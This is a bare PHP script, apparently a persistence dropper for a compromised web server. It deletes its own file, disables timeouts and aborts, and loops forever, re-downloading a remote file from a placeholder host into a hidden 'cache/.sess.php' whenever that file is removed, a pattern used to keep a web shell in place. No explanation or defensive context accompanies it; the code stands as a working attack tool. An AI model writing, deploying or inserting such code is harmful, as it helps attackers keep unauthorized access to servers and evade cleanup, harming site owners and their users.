<?php
ignore_user_abort(1);
ini_set('max_execution_time', '0');
unlink($_SERVER['SCRIPT_FILENAME']);
for (;;) {
    if (!is_file('cache/.sess.php')) {
        copy('https://example.invalid/t.txt', 'cache/.sess.php');
    }
    usleep(200000);
}
